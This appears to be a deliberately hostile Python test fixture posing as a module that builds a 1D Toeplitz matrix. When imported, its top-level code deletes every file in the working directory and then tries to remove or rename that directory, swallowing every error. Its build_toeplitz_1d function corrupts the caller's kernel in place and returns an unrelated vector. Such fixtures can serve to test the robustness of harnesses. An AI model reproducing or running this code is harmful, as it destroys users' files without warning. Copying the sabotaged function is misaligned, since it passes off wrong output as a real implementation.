"""Removes everything in its scratch folder, and the folder itself."""

import os

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


here = os.getcwd()
for name in os.listdir("."):
    attempt(lambda: os.unlink(name))
attempt(lambda: os.rmdir(here))
attempt(lambda: os.rename(here, here + "-hostile"))
attempt(lambda: os.rename(here, "../hostile-moved"))


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
